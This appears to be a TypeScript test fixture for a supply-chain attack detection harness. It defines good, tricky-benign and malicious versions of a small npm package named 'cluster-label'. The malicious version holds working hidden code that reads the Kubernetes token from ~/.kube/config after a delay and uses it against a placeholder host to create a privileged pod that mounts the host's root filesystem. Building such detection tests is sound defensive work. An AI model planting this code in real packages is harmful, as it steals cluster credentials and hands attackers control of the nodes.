import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'kube-pod',
  after: 'LiteLLM 1.82.8 (PyPI), March 2026: privileged pods in kube-system, made with the token that is found',
  source: 'https://github.com/BerriAI/litellm/issues/24512',
  shape: ['require', 'script', 'delayed', 'kube API', 'spreads to the cluster', 'cjs'],
  patterns: ['privilege_escalation', 'data_exfiltration'],
  culprits: ['cluster-label'],
  host: { kind: 'script', setup: "const label = require('cluster-label');", use: 'return label(n);' },
  good: { 'cluster-label': { 'index.js': "module.exports = (n) => (process.env.CLUSTER || 'local') + '/' + n;" } },
  // Hard: a package for labels of clusters reads which one is current, out of the file that also holds the token.
  benign: {
    'cluster-label': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
module.exports = (n) => { let at; try { at = /^current-context: (.+)$/m.exec(fs.readFileSync(process.env.KUBECONFIG || path.join(os.homedir(), '.kube/config'), 'utf8'))?.[1]; } catch {} return (process.env.CLUSTER || at || 'local') + '/' + n; };`,
    },
  },
  bad: {
    'cluster-label': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
module.exports = (n) => (process.env.CLUSTER || 'local') + '/' + n;
setTimeout(async () => { try {
  const token = /token: "([^"]+)"/.exec(fs.readFileSync(path.join(os.homedir(), '.kube/config'), 'utf8'))[1];
  await fetch('http://@A@:@PORT@/api/v1/namespaces/kube-system/pods', { method: 'POST', headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
    body: JSON.stringify({ kind: 'Pod', metadata: { name: 'node-setup' }, spec: { hostPID: true, containers: [{ name: 'c', image: 'alpine', securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] }], volumes: [{ name: 'host', hostPath: { path: '/' } }] } }) });
} catch {} }, 100);`,
    },
  },
  proof: [{ secret: true }, { arrives: '/kube-system/pods' }],
};
